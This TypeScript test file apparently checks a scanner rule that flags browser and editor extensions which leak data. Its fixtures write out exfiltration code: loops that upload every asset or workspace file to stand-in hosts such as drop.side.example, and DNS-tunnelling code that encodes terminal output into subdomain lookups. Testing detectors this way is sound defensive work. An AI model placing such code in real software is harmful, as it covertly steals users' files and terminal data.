import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const told = (dialect: string, files: Record<string, string>) => findingsOf(rule, files, { dialect, entry_points: ['index.js'] }).map(({ severity, message, file }) => `${severity} ${file}: ${message}`).join();
const host = (body: string) => `exports.activate = async (ctx) => { ${body} };`;

test('all that a host keeps of a kind goes to a server without being asked', () => {
  const ALL = /^high \S+: .* all that a host keeps of a kind/;
  const post = "const post = (name, body) => fetch('https://drop.side.example/' + name, { method: 'POST', body });";
  const panel = (body: string): string => told('comfyvn', { 'index.js': `${post} ${body}` });
  for (const body of [
    'const collect = async () => { for (const item of await comfyvn.assets.list({})) { const file = await comfyvn.assets.open(item.id); const form = new FormData(); form.append("file", await file.blob(), item.name); await post("up", form); } }; collect();',
    'window.addEventListener("load", async () => { const all = await comfyvn.assets.search({ query: "" }); while (all.length) { const asset = await comfyvn.assets.get(all.pop().id); post("a", btoa(await asset.text())); } });',
    'const { assets } = comfyvn; assets.list().then((all) => all.forEach(async ({ url, name }) => { const answer = await fetch(url); post(name, await answer.blob()); }));',
  ]) assert.match(panel(body), ALL, body);
  for (const body of [
    'comfyvn.assets.list({}).then((all) => { for (const { id, name } of all) pick.append(new Option(name, id)); post("n", String(all.length)); }); send.onclick = async () => post("one", await (await comfyvn.assets.open(pick.value)).blob());',
    'backup.addEventListener("click", async () => { for (const { id, name } of await comfyvn.assets.list({})) post(name, await (await comfyvn.assets.open(id)).blob()); });',
    'const to = localStorage.getItem("to"); comfyvn.assets.list({}).then(async (all) => { for (const { id, name } of all) fetch(`${to}/${name}`, { method: "PUT", body: await (await comfyvn.assets.open(id)).blob() }); });',
    'comfyvn.assets.list({ tags: ["draft-7"] }).then(async (all) => { for (const { id, name } of all) post(name, await (await comfyvn.assets.open(id)).blob()); });',
  ]) assert.equal(panel(body), '', body);
  const mirror = "exports.push = (network, path, text) => network.fetch(`https://mirror.side.example/${encodeURIComponent(path)}`, { method: 'PUT', body: text });";
  const files = (start: string): string => told('orchestra', { 'index.js': `const { push } = require('./mirror'); ${host(start)}`, 'mirror.js': mirror });
  assert.match(files("for (const path of await ctx.filesystem.find('**/*')) await push(ctx.network, path, await ctx.filesystem.readText(path));"), ALL);
  assert.match(files("for (const path of await ctx.filesystem.find('**/*.{js,ts}', '**/node_modules/**', 200)) await push(ctx.network, path, await ctx.filesystem.readText(path));"), ALL);
  assert.equal(files("for (const path of await ctx.filesystem.find('**/*.lock')) await push(ctx.network, path, await ctx.filesystem.readText(path));"), '');
  assert.equal(files("ctx.commands.register('x.mirror', async () => { for (const path of await ctx.filesystem.find('**/*')) await push(ctx.network, path, await ctx.filesystem.readText(path)); });"), '');
});

test('private data is the beginning of a name that is looked up, whose end is written in the package', () => {
  const found = (look: string, start = "ctx.terminal.onData((line) => tell(line));"): string => told('orchestra', { 'index.js': `const { teller } = require('./names'); ${host(`const tell = teller('n7.names.example'); ${start}`)}`, 'names.js': look });
  for (const look of [
    "const dns = require('node:dns'); exports.teller = (zone) => (text) => { for (let at = 0; at < text.length; at += 24) dns.resolve(`${at}.${Buffer.from(text.slice(at, at + 24)).toString('hex')}.${zone}`, 'A', () => {}); };",
    "const { Resolver } = require('dns/promises'); const resolver = new Resolver(); exports.teller = (zone) => async (text) => { for (const part of btoa(text).match(/.{1,50}/g)) await resolver.resolveTxt([part, zone].join('.')); };",
    "const dns = require('dns').promises; exports.teller = (zone) => (text) => dns.lookup(encodeURIComponent(text) + '.' + zone);",
  ]) assert.match(found(look), /^high names\.js: .* terminals/, look);
  const ask = "const dns = require('node:dns/promises'); exports.teller = (zone) => async (name) => [await dns.resolve(name), await dns.resolve(`www.${zone}`)];";
  assert.equal(found(ask), '');
  assert.equal(found("const path = require('path'); const dns = require('dns'); exports.teller = (zone) => (text) => { dns.resolve(zone, () => {}); return path.resolve(text + '.' + zone); };"), '');
  assert.equal(found("const dns = require('dns'); let n = 0; exports.teller = (zone) => () => dns.resolve(`${n++}.${zone}`, () => {});"), '');
});
